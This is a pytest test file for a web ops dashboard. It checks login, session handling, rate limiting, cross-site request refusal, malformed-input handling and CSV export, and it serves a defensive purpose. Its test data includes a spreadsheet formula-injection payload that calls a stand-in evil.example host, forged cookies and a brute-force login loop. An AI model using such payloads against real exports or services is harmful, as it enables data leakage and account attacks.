"""The dashboard in-process: access, data, filters, bad input, a store that is down."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from readykit import ReadyKit, Settings
from readykit.dashboard.auth import COOKIE
from readykit.testing import asgi_request, lifespan

pytestmark = pytest.mark.anyio
TOKEN = "ops-secret-token"


async def create(request: Request) -> JSONResponse:
    return JSONResponse({"ok": True}, status_code=201)


def make(tmp_path: Path, **settings: Any) -> tuple[ReadyKit, Any]:
    settings.setdefault("ops_trust_loopback", "ops_token" not in settings)
    kit = ReadyKit(
        Settings(
            configure_logging=False,
            access_log=False,
            store_url=f"sqlite:///{tmp_path}/r.db",
            **settings,
        ),
        principal=lambda scope: dict(scope["headers"]).get(b"x-user", b"").decode() or None,
    )
    return kit, kit.wrap(Starlette(routes=[Route("/quotes", create, methods=["POST"])]))


BEARER = [("Authorization", f"Bearer {TOKEN}")]


async def test_data_filters_and_csv(tmp_path: Path) -> None:
    kit, app = make(tmp_path, ops_token=TOKEN)
    async with lifespan(app):
        for who in ("user:1", "user:2", "user:1"):
            await asgi_request(app, "POST", "/quotes", headers=[("X-User", who)])
        await kit.records.writer.flush()  # type: ignore[union-attr]
        overview = (await asgi_request(app, "GET", "/ops/api/overview", headers=BEARER)).json()
        assert overview["traffic"]["total"]["requests"] == 3
        assert overview["traffic"]["routes"][0]["route"] == "POST /quotes"
        assert {c["name"] for c in overview["health"]} == {
            "store",
            "records-spill",
            "records-quarantine",
            "audit-anchor",
        }
        audit = await asgi_request(app, "GET", "/ops/api/audit", headers=BEARER,
                                   query_string=b"actor=user:1")  # fmt: skip
        assert [e["actor"] for e in audit.json()["events"]] == ["user:1", "user:1"]
        csv = await asgi_request(app, "GET", "/ops/api/audit", headers=BEARER,
                                 query_string=b"format=csv")  # fmt: skip
        assert csv.header("content-type") == "text/csv; charset=utf-8"
        assert len(csv.body.decode().strip().splitlines()) == 4
        page = await asgi_request(app, "GET", "/ops/audit", headers=BEARER,
                                  query_string=b"actor=user:2")  # fmt: skip
        assert page.status == 200
        assert page.body.count(b"<td>user:2</td>") == 1
        assert b"user:1" not in page.body.split(b'id="events"')[1]


@pytest.mark.parametrize(
    ("path", "query", "detail"),
    [
        ("/ops/api/audit", b"since=yesterday", "since='yesterday' is not a date"),
        ("/ops/api/audit", b"colour=red", "unknown filter 'colour'"),
        ("/ops/api/audit", b"page=0", "page='0' is not a page number"),
        ("/ops/api/entries", b"kind=errors", "kind='errors' is not one of"),
        ("/ops/audit", b"until=13/13/2026", "until='13/13/2026' is not a date"),
    ],
)
async def test_bad_filters_are_400_problems(
    tmp_path: Path, path: str, query: bytes, detail: str
) -> None:
    _, app = make(tmp_path)
    r = await asgi_request(app, "GET", path, query_string=query)
    assert r.status == 400
    assert r.header("content-type") == "application/problem+json"
    assert detail in r.json()["detail"]


async def test_access_rules(tmp_path: Path) -> None:
    _, closed = make(tmp_path, ops_trust_loopback=False)
    refused = await asgi_request(closed, "GET", "/ops")  # no token, loopback not trusted
    assert refused.status == 403
    assert "READYKIT_OPS_TOKEN" in refused.json()["detail"]
    assert (await asgi_request(closed, "GET", "/ops/api/audit")).status == 401
    _, open_app = make(tmp_path, ops_trust_loopback=True)
    assert (await asgi_request(open_app, "GET", "/ops")).status == 200  # trusted loopback
    remote = await asgi_request(open_app, "GET", "/ops", client=("203.0.113.7", 1))
    assert remote.status == 403
    proxied = await asgi_request(open_app, "GET", "/ops", headers=[("X-Forwarded-For", "1.2.3.4")])
    assert proxied.status == 403
    _, app = make(tmp_path, ops_token=TOKEN)
    to_login = await asgi_request(app, "GET", "/ops")  # a token is set: loopback is not enough
    assert (to_login.status, to_login.header("location")) == (303, "/ops/login")
    assert (await asgi_request(app, "GET", "/ops/api/overview")).status == 401
    bad = await asgi_request(app, "POST", "/ops/login", body=b"token=guess")
    assert bad.status == 200
    assert b"not the ops token" in bad.body
    assert bad.header("set-cookie") is None
    good = await asgi_request(app, "POST", "/ops/login", body=f"token={TOKEN}".encode())
    assert good.status == 303
    cookie = good.header("set-cookie") or ""
    assert "HttpOnly" in cookie
    assert "SameSite=Strict" in cookie
    assert "Secure" not in cookie
    value = cookie.split(";")[0]
    ok = await asgi_request(app, "GET", "/ops", headers=[("Cookie", value)])
    assert ok.status == 200
    forged = value[:-4] + "abcd"
    assert (await asgi_request(app, "GET", "/ops", headers=[("Cookie", forged)])).status == 303
    https = await asgi_request(app, "POST", "/ops/login", body=f"token={TOKEN}".encode(),
                               scheme="https")  # fmt: skip
    assert "Secure" in (https.header("set-cookie") or "")
    assert (await asgi_request(app, "GET", "/ops/logout", headers=BEARER)).status == 405


async def login(app: Any, token: str = TOKEN) -> str:
    response = await asgi_request(app, "POST", "/ops/login", body=f"token={token}".encode())
    assert response.status == 303
    return (response.header("set-cookie") or "").split(";")[0]


async def test_sessions_expire(tmp_path: Path) -> None:
    now = [time.time()]
    kit, app = make(tmp_path, ops_token=TOKEN)
    assert kit.dashboard is not None
    kit.dashboard.auth.clock = lambda: now[0]
    cookie = await login(app)
    assert (await asgi_request(app, "GET", "/ops", headers=[("Cookie", cookie)])).status == 200
    now[0] += 8 * 3600 + 1
    assert (await asgi_request(app, "GET", "/ops", headers=[("Cookie", cookie)])).status == 303


async def test_logout_revokes_the_session_on_the_server(tmp_path: Path) -> None:
    _, app = make(tmp_path, ops_token=TOKEN)
    _, other_worker = make(tmp_path, ops_token=TOKEN)  # same store, another process's kit
    cookie = await login(app)
    assert (
        await asgi_request(other_worker, "GET", "/ops", headers=[("Cookie", cookie)])
    ).status == 200
    out = await asgi_request(app, "POST", "/ops/logout", headers=[("Cookie", cookie)])
    assert out.status == 303
    assert "Max-Age=0" in (out.header("set-cookie") or "")
    # the old cookie, replayed (a copy the browser did not drop), is dead everywhere
    assert (await asgi_request(app, "GET", "/ops", headers=[("Cookie", cookie)])).status == 303
    assert (
        await asgi_request(other_worker, "GET", "/ops", headers=[("Cookie", cookie)])
    ).status == 303


async def test_a_new_token_ends_every_session(tmp_path: Path) -> None:
    _, app = make(tmp_path, ops_token=TOKEN)
    cookie = await login(app)
    _, rotated = make(tmp_path, ops_token="the-next-token")
    assert (await asgi_request(rotated, "GET", "/ops", headers=[("Cookie", cookie)])).status == 303


async def test_login_is_rate_limited_per_client(tmp_path: Path) -> None:
    _, app = make(tmp_path, ops_token=TOKEN)
    statuses = [
        (await asgi_request(app, "POST", "/ops/login", body=f"token=guess{i}".encode())).status
        for i in range(1000)
    ]
    assert statuses[:10] == [200] * 10  # the form again, "not the ops token"
    assert set(statuses[10:]) == {429}
    refused = await asgi_request(app, "POST", "/ops/login", body=f"token={TOKEN}".encode())
    assert refused.status == 429  # even the right token waits: no oracle while limited
    assert int(refused.header("retry-after") or 0) >= 1
    other = await asgi_request(
        app, "POST", "/ops/login", body=f"token={TOKEN}".encode(), client=("192.0.2.1", 1)
    )
    assert other.status == 303  # another client is not locked out


async def test_login_is_rate_limited_in_total(tmp_path: Path) -> None:
    """Many addresses (a botnet, or rotating IPv6) share one global budget."""
    _, app = make(tmp_path, ops_token=TOKEN)
    statuses = []
    for i in range(150):
        client = (f"198.51.100.{i % 250}", 1)
        r = await asgi_request(app, "POST", "/ops/login", body=b"token=x", client=client)
        statuses.append(r.status)
    assert statuses.count(200) == 100
    assert statuses[100:] == [429] * 50


@pytest.mark.parametrize(
    "headers",
    [
        [("Origin", "https://evil.example"), ("Host", "127.0.0.1:8000")],
        [("Origin", "null"), ("Host", "127.0.0.1:8000")],
        [("Sec-Fetch-Site", "cross-site"), ("Origin", "http://127.0.0.1:8000")],
        [("Sec-Fetch-Site", "same-site")],
    ],
)
async def test_cross_site_login_and_logout_are_refused(
    tmp_path: Path, headers: list[tuple[str, str]]
) -> None:
    _, app = make(tmp_path, ops_token=TOKEN)
    body = f"token={TOKEN}".encode()
    r = await asgi_request(app, "POST", "/ops/login", body=body, headers=headers)
    assert (r.status, r.header("set-cookie")) == (403, None)
    cookie = await login(app)
    out = await asgi_request(app, "POST", "/ops/logout", headers=[("Cookie", cookie), *headers])
    assert out.status == 403
    assert (await asgi_request(app, "GET", "/ops", headers=[("Cookie", cookie)])).status == 200


async def test_same_origin_browser_login_is_accepted(tmp_path: Path) -> None:
    _, app = make(tmp_path, ops_token=TOKEN)
    body = f"token={TOKEN}".encode()
    for headers in (
        [("Sec-Fetch-Site", "same-origin"), ("Origin", "null")],  # under no-referrer
        [("Origin", "http://127.0.0.1:8000"), ("Host", "127.0.0.1:8000")],
    ):
        r = await asgi_request(app, "POST", "/ops/login", body=body, headers=headers)
        assert r.status == 303


async def test_login_link_with_the_token(tmp_path: Path) -> None:
    """What `readykit demo` prints: one click logs in, as Jupyter's link does."""
    _, app = make(tmp_path, ops_token=TOKEN)
    r = await asgi_request(app, "GET", "/ops/login", query_string=f"token={TOKEN}".encode())
    assert (r.status, r.header("location")) == (303, "/ops")
    assert COOKIE in (r.header("set-cookie") or "")
    wrong = await asgi_request(app, "GET", "/ops/login", query_string=b"token=nope")
    assert (wrong.status, wrong.header("set-cookie")) == (200, None)


@pytest.mark.parametrize(
    ("method", "path", "query", "headers", "body", "status"),
    [
        ("POST", "/ops/login", b"", [], b"token=" + b"a" * 600, 400),
        ("POST", "/ops/login", b"", [], b"token=" + b"a" * 5000, 413),
        ("GET", "/ops", b"", [("Cookie", f"{COOKIE}=" + "9" * 4301)], b"", 303),
        ("GET", "/ops", b"", [("Cookie", f"{COOKIE}=a.{'9' * 4301}.b")], b"", 303),
        ("GET", "/ops/api/audit", b"", [("Cookie", f'{COOKIE}="\x00;;==')], b"", 401),
        ("GET", "/ops/api/audit", b"page=\xc2\xb2", BEARER, b"", 400),
        ("GET", "/ops/audit", b"page=99999999999999999999", BEARER, b"", 400),
        ("GET", "/ops/api/audit", b"", [("Authorization", "Bearer " + "x" * 100_000)], b"", 401),
    ],
)
async def test_malformed_input_is_a_4xx_never_a_500(
    tmp_path: Path,
    method: str,
    path: str,
    query: bytes,
    headers: list[tuple[str, str]],
    body: bytes,
    status: int,
) -> None:
    _kit, app = make(tmp_path, ops_token=TOKEN)
    r = await asgi_request(app, method, path, query_string=query, headers=headers, body=body)
    assert r.status == status
    if status != 303:
        assert r.header("content-type") in ("application/problem+json", "text/html; charset=utf-8")
    assert b"Traceback" not in r.body


async def test_ops_slash_redirects_to_ops(tmp_path: Path) -> None:
    _, app = make(tmp_path, ops_token=TOKEN)
    r = await asgi_request(app, "GET", "/ops/")
    assert (r.status, r.header("location")) == (303, "/ops")


async def test_a_store_that_is_down_still_renders(tmp_path: Path) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("not a directory")
    kit = ReadyKit(
        Settings(
            configure_logging=False,
            ops_trust_loopback=True,
            store_url=f"sqlite:///{blocked}/r.db",
        )
    )
    app = kit.wrap(Starlette())
    page = await asgi_request(app, "GET", "/ops")
    assert page.status == 200
    assert b'id="unavailable"' in page.body
    audit = await asgi_request(app, "GET", "/ops/audit")
    assert audit.status == 200
    assert b'id="unavailable"' in audit.body
    assert (await asgi_request(app, "GET", "/ops/api/audit")).status == 503


async def test_pages_have_a_strict_csp_and_no_inline_script(tmp_path: Path) -> None:
    _, app = make(tmp_path)
    page = await asgi_request(app, "GET", "/ops")
    csp = page.header("content-security-policy") or ""
    assert "default-src 'self'" in csp
    assert "unsafe-inline" not in csp
    assert b"<script>" not in page.body
    assert b"<script src=" in page.body


def test_demo_banner_says_where_the_dashboard_is_and_how_to_get_in() -> None:
    from readykit.demo.server import banner

    first = banner("127.0.0.1", 8000, token="abc").splitlines()[0]
    assert first.startswith("readykit demo dashboard: http://127.0.0.1:8000/ops/login?token=abc")
    assert "READYKIT_OPS_TOKEN" in banner("::1", 9000, token=None).splitlines()[0]
    assert "http://[::1]:9000/ops" in banner("::1", 9000, token=None)


def test_demo_makes_a_token_and_prints_a_link_that_logs_in(tmp_path: Path) -> None:
    """`readykit demo` with no token: closed to others, one click for whoever started it."""
    import re
    import sys
    import urllib.error
    import urllib.request

    from readykit.serve import serve

    argv = [sys.executable, "-m", "readykit.cli", "demo", "--port", "{port}"]
    env = {
        "READYKIT_OPS_TOKEN": "",
        "READYKIT_DEMO_DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path}/d.db",
    }
    with serve(argv, cwd=tmp_path, env=env) as demo:
        link = re.search(r"(http://\S+/ops/login\?token=(\S+))", demo.output())
        assert link is not None, demo.output()
        with pytest.raises(urllib.error.HTTPError) as closed:
            urllib.request.urlopen(f"{demo.url}/metrics", timeout=5)
        closed.value.close()
        assert closed.value.code == 401  # loopback alone opens nothing

        class NoRedirect(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *args: Any) -> None:
                return None

        opener = urllib.request.build_opener(NoRedirect)
        with pytest.raises(urllib.error.HTTPError) as followed:
            opener.open(link.group(1), timeout=5)
        followed.value.close()
        assert followed.value.code == 303
        cookie = followed.value.headers["set-cookie"].split(";")[0]
        request = urllib.request.Request(f"{demo.url}/ops", headers={"Cookie": cookie})
        with urllib.request.urlopen(request, timeout=5) as page:
            assert page.status == 200
        bearer = {"Authorization": f"Bearer {link.group(2)}"}
        with urllib.request.urlopen(
            urllib.request.Request(f"{demo.url}/metrics", headers=bearer)
        ) as m:
            assert b"http_server_request_duration_seconds" in m.read()


async def test_kit_routes_are_held_to_the_time_and_body_limits(tmp_path: Path) -> None:
    """A slow body to /ops/login is cut like one to an app route, not held open forever."""
    _, app = make(tmp_path, ops_token=TOKEN, request_timeout_s=0.05, max_body_bytes=100)
    sent: list[dict[str, Any]] = []

    async def trickle() -> dict[str, Any]:  # one chunk, then the client goes quiet
        if not sent and not trickle.__dict__.get("done"):
            trickle.__dict__["done"] = True
            return {"type": "http.request", "body": b"token=", "more_body": True}
        await asyncio.Event().wait()
        raise AssertionError

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/ops/login", "headers": [],
             "query_string": b"", "client": ("203.0.113.1", 1), "scheme": "http",
             "http_version": "1.1"}  # fmt: skip
    await app(scope, trickle, send)
    assert sent[0]["status"] == 504
    big = await asgi_request(
        app, "POST", "/ops/login", body=b"token=" + b"x" * 200, headers=[("content-length", "206")]
    )
    assert big.status == 413


async def test_a_cache_that_never_hits_is_flagged(tmp_path: Path) -> None:
    kit, app = make(tmp_path)

    @kit.cached(ttl=60)
    async def rates(code: str) -> str:
        return code

    @kit.cached(ttl=60)
    async def fine() -> int:
        return 1

    for i in range(25):
        await rates(f"code-{i}")  # a key that differs every call: never a hit
        await fine()
    snapshot = (await asgi_request(app, "GET", "/ops/api/guards")).json()["cache"]
    flags = {name.rsplit(".", 1)[-1]: c["never_hits"] for name, c in snapshot.items()}
    assert flags == {"rates": 1.0, "fine": 0.0}
    page = await asgi_request(app, "GET", "/ops")
    assert page.body.count(b"never hits</span>") == 1


async def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """An actor name (chosen at sign-up) or a path a stranger sent is a formula to a
    spreadsheet that opens the export: every such cell is written as text, in the dashboard's
    CSV and in `readykit audit export --format csv`."""
    import csv as csvlib
    import io

    from click.testing import CliRunner

    from readykit.cli import cli

    formula = '=HYPERLINK("http://evil.example/"&E3,"Open")'
    kit, app = make(tmp_path, ops_token=TOKEN)
    async with lifespan(app):
        for who in (formula, "+1-555", "@SUM(A1)", "user:1"):
            await asgi_request(app, "POST", "/quotes", headers=[("X-User", who)])
        await kit.records.writer.flush()  # type: ignore[union-attr]
        page = await asgi_request(app, "GET", "/ops/api/audit", headers=BEARER,
                                  query_string=b"format=csv")  # fmt: skip
    argv = ["audit", "export", "--store", f"sqlite:///{tmp_path}/r.db", "--format", "csv"]
    exported = await asyncio.to_thread(CliRunner().invoke, cli, argv)  # it runs its own loop
    assert exported.exit_code == 0, exported.output
    for text in (page.body.decode(), exported.output):
        rows = list(csvlib.DictReader(io.StringIO(text)))
        actors = sorted(row["actor"] for row in rows)
        assert actors == sorted(["'" + formula, "'+1-555", "'@SUM(A1)", "user:1"])
        assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())


async def test_behind_a_root_path_every_link_redirect_and_the_cookie_carry_it(
    tmp_path: Path,
) -> None:
    """`uvicorn --root-path /api` (a proxy serving the app under /api): the browser sees
    /api/ops; links, redirects and the cookie's path at /ops would leave the dashboard."""
    _, inner = make(tmp_path, ops_token=TOKEN)

    async def app(scope: Any, receive: Any, send: Any) -> None:  # as uvicorn passes it
        await inner({**scope, "root_path": "/api", "path": "/api" + scope["path"]}, receive, send)

    to_login = await asgi_request(app, "GET", "/ops/audit")
    assert (to_login.status, to_login.header("location")) == (303, "/api/ops/login")
    form = await asgi_request(app, "GET", "/ops/login")
    assert b'action="/api/ops/login"' in form.body
    good = await asgi_request(app, "POST", "/ops/login", body=f"token={TOKEN}".encode())
    assert (good.status, good.header("location")) == (303, "/api/ops")
    cookie = good.header("set-cookie") or ""
    assert "Path=/api/ops;" in cookie
    page = await asgi_request(app, "GET", "/ops", headers=[("Cookie", cookie.split(";")[0])])
    assert page.status == 200
    assert b'data-ops="/api/ops"' in page.body
    assert b'href="/api/ops/audit"' in page.body
    assert b'"/ops' not in page.body


@pytest.mark.parametrize(
    ("root", "seen"), [("/my app", "/my%20app"), ("/日本", "/%E6%97%A5%E6%9C%AC")]
)
async def test_a_root_path_is_written_as_the_browser_sends_it(
    tmp_path: Path, root: str, seen: str
) -> None:
    """The scope holds the root path decoded; links, redirects and the cookie's path must be
    what the browser sends (a space as %20), and a non-ASCII one must not break the page."""
    _, inner = make(tmp_path, ops_token=TOKEN)

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await inner({**scope, "root_path": root, "path": root + scope["path"]}, receive, send)

    to_login = await asgi_request(app, "GET", "/ops/audit")
    assert (to_login.status, to_login.header("location")) == (303, f"{seen}/ops/login")
    good = await asgi_request(app, "POST", "/ops/login", body=f"token={TOKEN}".encode())
    assert f"Path={seen}/ops;" in (good.header("set-cookie") or "")
